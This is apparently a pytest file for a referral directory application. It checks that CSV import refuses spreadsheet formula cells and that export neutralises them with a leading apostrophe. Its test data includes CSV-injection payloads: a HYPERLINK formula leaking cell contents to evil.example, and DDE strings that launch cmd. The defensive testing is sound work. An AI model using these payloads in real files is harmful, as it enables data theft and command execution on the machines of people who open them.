"""CSV formula injection (issue 15, finding 1): a cell that a spreadsheet would run as a formula
(starting with = + - @, a tab or a carriage return) is refused on import with its row number, and one
already in the database leaves /export neutralised (a leading apostrophe), so staff opening the file
in Excel or LibreOffice never run it."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from referral_directory.importer import COLUMNS, FORMULA_START, neutralise
from referral_directory.models import Service
from tests.referral_directory.test_rd_importer import good, snapshot, write_csv

FORMULAS = [  # (column, cell)
    ("name_en", '=HYPERLINK("http://evil.example/?d="&A1,"click")'),
    ("address", "+cmd|' /C calc'!A0"),
    ("notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("hours", "-2+3+cmd|' /C calc'!A0"),
    ("name_bn", "\t=1+1"),
    ("source", "\r=1+1"),
    ("notes", "  =1+1"),  # the import trims spaces: it would be stored as "=1+1"
]


def test_formula_cells_are_refused_with_their_row_number(fresh, tmp_path):
    before = snapshot(fresh)
    rows = [good(name_en="Valid first row")] + [good(name_en=f"Row {i}")
                                                 for i, (col, cell) in enumerate(FORMULAS)]
    for row, (col, cell) in zip(rows[1:], FORMULAS):
        row[col] = cell
    rep = fresh.import_csv(write_csv(tmp_path / "formulas.csv", rows))
    assert not rep.ok
    for n, (col, _) in enumerate(FORMULAS, start=3):  # header is row 1, the valid row is row 2
        assert any(p.row == n and p.column == col and "formula" in p.message for p in rep.problems), (n, rep.problems)
    assert 2 not in {p.row for p in rep.problems}
    assert snapshot(fresh) == before  # nothing written


def test_phone_numbers_with_a_plus_and_plain_numbers_still_import(fresh, tmp_path):
    rep = fresh.import_csv(write_csv(tmp_path / "ok.csv", [good(name_en="Plus phone", phone="+8801811123456")]))
    assert rep.ok, rep.problems


def test_formulas_already_stored_leave_the_export_neutralised(fresh, tmp_path):
    with fresh.engine.begin() as conn:
        sid = conn.execute(Service.__table__.select().limit(1)).mappings().first()["id"]
        conn.execute(update(Service.__table__).where(Service.__table__.c.id == sid).values(
            name_en="=cmd|' /C calc'!A0", address="@SUM(1)", notes="\t+1", hours="-1+2"))
    text = snapshot(fresh)
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["id"] == sid)
    assert (row["name_en"], row["address"], row["notes"], row["hours"]) == (
        "'=cmd|' /C calc'!A0", "'@SUM(1)", "'\t+1", "'-1+2")
    for r in rows:  # no cell of the whole export starts a formula
        for col in COLUMNS:
            assert not r[col].startswith(tuple(FORMULA_START)), (col, r[col])
    # the neutralised file imports again (it now stores the harmless text)
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    rep = fresh.import_csv(path)
    assert rep.ok and rep.updated == 1, rep.problems[:3]
    assert snapshot(fresh) == text


@pytest.mark.parametrize("value,expected", [("=1", "'=1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"),
                                            ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok", "ok"), ("", ""),
                                            ("-23.5", "-23.5"), ("+8801711123456", "+8801711123456")])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
